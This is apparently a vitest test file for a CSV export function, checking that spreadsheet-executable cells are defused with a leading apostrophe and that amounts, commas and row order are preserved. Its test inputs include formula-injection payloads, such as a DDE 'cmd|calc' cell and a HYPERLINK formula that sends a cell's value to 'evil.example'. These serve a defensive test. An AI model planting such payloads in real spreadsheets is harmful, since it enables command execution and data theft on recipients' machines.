import papa from 'papaparse';
import { expect, test } from 'vitest';
import { fail, succeed } from '../../shared/failure.ts';
import { csvTableOf, csvText } from './csv-export.ts';

test('a cell that a spreadsheet would run is defused; amounts and commas stay what they are', async () => {
  const text = await csvText({
    name: 'trades',
    columns: ['Strategy', 'Net'],
    rows: [
      ['=HYPERLINK("http://evil.example")', '-1480.50'],
      ['+cmd|calc', '10.00'],
      ['@sum', '0.00'],
      ['Fade, slow', '1.05'],
    ],
  });
  expect(text.startsWith('\uFEFF')).toBe(true);
  expect(text.slice(1).split('\r\n')).toEqual([
    'Strategy,Net',
    `"'=HYPERLINK(""http://evil.example"")",-1480.50`,
    `"'+cmd|calc",10.00`,
    `"'@sum",0.00`,
    '"Fade, slow",1.05',
  ]);
});

test.each([
  `-2+3+cmd|' /C calc'!A0`,
  '+1+HYPERLINK("http://evil.example"&B2)',
  '=1\n+2',
  '-1.2.3',
  '\n=1',
  '\t=1',
  '＝1',
])('%j is text in every spreadsheet', async (cell) => {
  const text = await csvText({ name: 'transfers', columns: ['Note'], rows: [[cell]] });
  const written = papa.parse<string[]>(text.slice(1)).data[1]?.[0];
  expect(written).toBe(`'${cell}`);
});

test('a file has the columns that say what they write, and the rows in the order shown', async () => {
  const columns = [{ title: 'Strategy', csv: ({ name }: { name: string }) => name }, { title: 'Actions' }];
  const rows = [{ name: 'Fade' }, { name: 'Break' }];
  const table = await csvTableOf('mine', columns, Promise.resolve(succeed(rows)), (all) => all.toReversed());
  expect(table).toEqual(succeed({ name: 'mine', columns: ['Strategy'], rows: [['Break'], ['Fade']] }));
  const refused = await csvTableOf('mine', columns, Promise.resolve(fail('internal', 'Not now')));
  expect(refused.ok).toBe(false);
});
